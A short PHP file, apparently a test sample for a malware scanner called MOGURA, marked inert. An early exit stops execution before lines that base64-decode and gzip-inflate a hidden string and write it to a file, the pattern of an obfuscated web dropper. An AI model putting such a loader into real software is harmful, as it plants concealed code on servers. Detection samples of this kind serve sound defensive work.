<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs
$c = gzinflate(base64_decode('y0xT0MgsLk4t0VCJd3cNiVZPVo/V1FSoViiuLC5JzUUWtVaoBQA='));
file_put_contents('x.tmp', $c);
